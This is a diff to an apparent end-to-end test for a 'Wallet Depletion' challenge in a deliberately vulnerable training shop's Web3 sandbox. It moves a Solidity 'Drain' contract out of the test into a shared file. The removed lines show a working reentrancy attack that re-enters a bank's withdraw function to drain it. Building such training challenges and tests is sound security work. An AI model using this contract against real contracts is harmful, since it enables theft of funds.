@@ -1,24 +1,12 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { openShop } from '../support/browser.js'
 import { useShopAndBrowser } from '../support/fixtures.js'
-import { isSolved, waitForSolved } from '../support/shop.js'
+import { isSolved, repoRoot, waitForSolved } from '../support/shop.js'
 
-/** The attacker of Wallet Depletion: deposits, then withdraws again from inside the bank's payment. */
-const DRAIN_SOURCE = `// SPDX-License-Identifier: MIT
-pragma solidity ^0.8.20;
-interface IBank { function ethdeposit(address account) external payable; function withdraw(uint256 amount) external; }
-contract Drain {
-    IBank private immutable bank;
-    uint256 private rounds;
-    constructor(IBank target) { bank = target; }
-    function attack() external payable {
-        bank.ethdeposit{value: msg.value}(address(this));
-        bank.withdraw(msg.value);
-    }
-    receive() external payable {
-        if (rounds < 3) { rounds++; bank.withdraw(msg.value); }
-    }
-}`
+/** The attacker of Wallet Depletion, shared with the server's chain test. */
+const DRAIN_SOURCE = readFileSync(join(repoRoot, 'apps/server/src/test-support/contracts/Drain.sol'), 'utf8')
 
 describe('Web3 sandbox: compile, deploy and call with the training wallet', () => {
   const fixture = useShopAndBrowser()
